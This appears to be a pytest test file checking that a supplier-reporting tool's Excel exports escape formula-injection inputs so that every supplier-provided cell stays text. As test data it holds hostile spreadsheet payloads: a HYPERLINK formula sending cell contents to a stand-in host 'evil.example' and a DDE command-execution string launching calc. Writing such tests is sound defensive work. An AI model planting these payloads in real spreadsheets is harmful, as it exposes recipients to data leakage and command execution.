"""Spreadsheet formula injection: every cell written from supplier input stays text."""

from __future__ import annotations

import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook

from cmrt.builder import NOT_LISTED, valid_cmrt
from outreach.reports.figures import files_figures
from outreach.reports.workbook import rcoi_workbook, scorecards_workbook
from outreach.spreadsheet import append_row, neutralise, new_workbook


@pytest.mark.parametrize("value", ["=1+1", "+SUM(A1)", "-2+3", "@SUM(A1)", "\t=cmd", "\r=cmd",
                                   '=HYPERLINK("http://evil.example","x")'])
def test_risky_text_is_prefixed(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Acme", " =not a formula", "a=b", "", None, 5, -3.5, True, date(2026, 1, 1)])
def test_everything_else_passes_unchanged(value):
    assert neutralise(value) == value


def test_other_objects_are_written_as_neutralised_text(tmp_path):
    class Name:
        def __str__(self) -> str:
            return "=EVIL()"

    wb = new_workbook()
    append_row(wb.create_sheet("x"), [Name(), -4])
    wb.save(tmp_path / "x.xlsx")
    ws = load_workbook(tmp_path / "x.xlsx")["x"]
    assert ws["A1"].value == "'=EVIL()" and ws["A1"].data_type == "s" and ws["B1"].value == -4


def _formulas_in(path) -> list[str]:
    """Cells stored as formulas, read from the workbook's XML itself."""
    found = []
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/") and "<f>" in zf.read(name).decode():
                found.append(name)
    return found


def test_rcoi_workbook_from_hostile_cmrts_holds_no_formula(tmp_path):
    folder = tmp_path / "files"
    folder.mkdir()
    # A text cell of the supplier's workbook (openpyxl would store a leading "=" as a formula itself).
    (folder / "=evil.xlsx").write_bytes(valid_cmrt(
        '@HYPERLINK("http://evil.example/?"&A1,"Click")',
        smelters=[{"metal": "Tantalum", "lookup_name": "Asaka Riken Co., Ltd."},
                  {"metal": "Tin", "lookup_name": "Dowa"},
                  {"metal": "Gold", "lookup_name": "Advanced Chemical Company"},
                  {"metal": "Tungsten", "lookup_name": "A.L.M.T. Corp."},
                  {"metal": "Gold", "lookup_name": NOT_LISTED, "name": "+cmd|' /C calc'!A0", "country": "@CHINA"}],
    ))
    figures = files_figures(folder)
    assert figures["valid"]["count"] == 1
    path = rcoi_workbook(figures, tmp_path / "rcoi.xlsx")
    assert _formulas_in(path) == []
    wb = load_workbook(path)
    declarations = list(wb["Declarations"].iter_rows(values_only=True))[1]
    assert declarations[1].startswith("'@HYPERLINK") and declarations[5] == "'=evil.xlsx"
    assert declarations[6].startswith("'@HYPERLINK")
    unknown = list(wb["Not known smelters"].iter_rows(values_only=True))[1]
    assert unknown[1] == "'+cmd|' /C calc'!A0" and unknown[2] == "'@CHINA" and unknown[4].startswith("'@HYPERLINK")


def test_scorecard_workbook_holds_no_formula(tmp_path):
    card = {
        "supplier_id": "-1", "supplier_name": "=cmd()", "category": "@x", "year": 2026, "grade": "B", "total": 71.0,
        "components": {"responsiveness": {"score": 100.0}}, "reasons": [{"component": "scope", "text": "=1", "points": 5}],
        "previous_total": None, "previous_grade": None, "trend": {"direction": "new", "delta": None},
    }
    path = scorecards_workbook([card], tmp_path / "s.xlsx", year=2026)
    assert _formulas_in(path) == []
    row = list(load_workbook(path).active.iter_rows(values_only=True))[1]
    assert row[:3] == ("'-1", "'=cmd()", "'@x") and row[-1] == "'=1"
